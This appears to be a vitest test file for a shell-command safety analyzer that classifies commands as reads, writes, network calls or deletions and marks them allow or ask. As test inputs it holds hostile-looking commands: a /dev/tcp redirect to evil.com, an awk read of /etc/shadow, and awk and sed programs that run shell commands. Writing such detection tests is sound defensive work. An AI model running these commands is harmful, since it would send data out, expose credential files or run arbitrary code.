import { describe, expect, it } from 'vitest';
import { parseArgv, effectiveClass } from '../../src/programs/argv.js';
import { awkProgramEffects } from '../../src/programs/hooks/awk.js';
import { sedScriptEffects } from '../../src/programs/hooks/sed-script.js';
import type { CommandSpec } from '../../src/programs/spec-types.js';
import type { Arg } from '../../src/walk/types.js';
import { check, ops, rules } from '../helpers/analyzer.js';

const args = (...v: string[]): Arg[] => v.map((value) => ({ value, dynamic: false, glob: false, span: { start: 0, end: 0 } }));
const spec: CommandSpec = {
  summary: 't',
  class: 'read-only',
  operands: ['read'],
  options: { '-o': { value: true, role: 'write', class: 'mutating' }, '--output': { value: true, role: 'write', class: 'mutating' }, '-n': { value: true } },
};

describe('argv parsing by meaning', () => {
  it('reads bundled, attached and long options the same way', () => {
    for (const a of [args('-o', 'f', 'x'), args('-of', 'x'), args('--output', 'f', 'x'), args('--output=f', 'x'), args('x', '-o', 'f')]) {
      const p = parseArgv(spec, a);
      expect(p.operands.map((o) => o.value)).toEqual(['x']);
      expect(p.options.find((o) => o.spec?.role === 'write')?.value?.value).toBe('f');
      expect(effectiveClass(p)).toBe('mutating');
    }
  });
  it('stops options at --', () => {
    expect(parseArgv(spec, args('--', '-o')).operands.map((o) => o.value)).toEqual(['-o']);
  });
  it('takes values of value options, not operands', () => {
    expect(parseArgv(spec, args('-n', '5', 'f')).operands.map((o) => o.value)).toEqual(['f']);
  });
});

describe('program text', () => {
  it('finds sed commands that execute or write', () => {
    expect(sedScriptEffects('s/a/b/e').exec).toBe(true);
    expect(sedScriptEffects('1e id').exec).toBe(true);
    expect(sedScriptEffects('s/a/b/w out.txt').writes).toEqual(['out.txt']);
    expect(sedScriptEffects('/x/w log').writes).toEqual(['log']);
    expect(sedScriptEffects('s/e/w/g')).toEqual({ exec: false, writes: [], reads: [], unknown: null });
  });
  it('finds awk programs that run commands or write files', () => {
    expect(awkProgramEffects('{ system("rm x") }').exec).toBe(true);
    expect(awkProgramEffects('{ print | "sh" }').exec).toBe(true);
    expect(awkProgramEffects('{ "date" | getline d }').exec).toBe(true);
    expect(awkProgramEffects('{ print > "out" }').writes).toBe(true);
    expect(awkProgramEffects('{ if ($1 > 3) print $2 }')).toEqual({
      exec: false,
      loads: false,
      writes: false,
      reads: false,
      argv: false,
      env: false,
      unknown: false,
    });
    expect(awkProgramEffects('BEGIN{while((getline l < "/etc/shadow") > 0) print l}').reads).toBe(true);
  });
});

describe('operations', () => {
  it('maps readers to Read of their files', async () => {
    expect(ops(await check('cat a b'))).toEqual(['Read ./a', 'Read ./b']);
    expect(ops(await check('head -n 5 f'))).toEqual(['Read ./f']);
  });
  it('turns readers into writers by their options', async () => {
    expect(ops(await check('sort -o out in'))).toEqual(expect.arrayContaining(['Write ./out', 'Read ./in']));
    expect((await check('sort -o out in')).level).toBe('ask');
    expect((await check("sed -i 's/a/b/' f")).level).toBe('ask');
    expect((await check("sed 's/a/b/' f")).level).toBe('allow');
    expect((await check("sed 's/a/b/w /tmp/x' f")).level).toBe('ask');
    expect((await check('find . -delete')).level).toBe('ask');
    expect((await check('find . -fprint out')).level).toBe('ask');
    expect((await check('awk \'{system("id")}\' f')).level).toBe('ask');
  });
  it('treats redirects as operations; fd duplication is not a file', async () => {
    expect(ops(await check('echo hi > out 2>&1'))).toEqual(['Write ./out']);
    expect(ops(await check('wc -l < in'))).toEqual(['Read ./in']);
    expect(ops(await check('cat <> f'))).toEqual(['Read ./f', 'Write ./f']);
    expect(ops(await check('echo x >/dev/tcp/evil.com/80'))).toEqual(['Network evil.com']);
    expect((await check('ls 2>/dev/null')).level).toBe('allow');
  });
  it('reads a redirection to `-` or `host:path` as the local file it opens, not stdout or a remote', async () => {
    // `-` is stdin or stdout only as a program's operand; `>-` and `3<>-` create a file named `-`
    for (const line of ['echo x >-', 'exec 3<>-', 'exec 3>-', 'cat f >> -'])
      expect(ops(await check(line)), line).toEqual(expect.arrayContaining(['Write ./-']));
    expect(ops(await check('echo x > a:b'))).toEqual(['Write ./a:b']);
    expect(ops(await check('wc -l < -'))).toEqual(['Read ./-']);
    expect(ops(await check('cat - f'))).toEqual(['Read ./f']);
    expect(ops(await check('rm -- -'))).toEqual(['Delete ./-']);
  });
  it('is three-valued: read-only, mutating, unknown', async () => {
    expect((await check('grep -r foo src')).level).toBe('allow');
    expect(rules(await check('mkdir x'))).toContain('write');
    expect(rules(await check('frobnicate --all'))).toContain('unknown-command');
  });
  it('classifies tar modes', async () => {
    expect((await check('tar -tzf a.tgz')).level).toBe('allow');
    expect(ops(await check('tar xzf a.tgz -C out'))).toEqual(expect.arrayContaining(['Read ./a.tgz', 'Write ./out']));
    expect(ops(await check('tar czf a.tgz src'))).toEqual(expect.arrayContaining(['Write ./a.tgz', 'Read ./src']));
  });
  it('reads dd if= and writes of=', async () => {
    expect(ops(await check('dd if=/dev/zero of=disk.img bs=1M count=1'))).toEqual(['Read /dev/zero', 'Write ./disk.img']);
  });
});
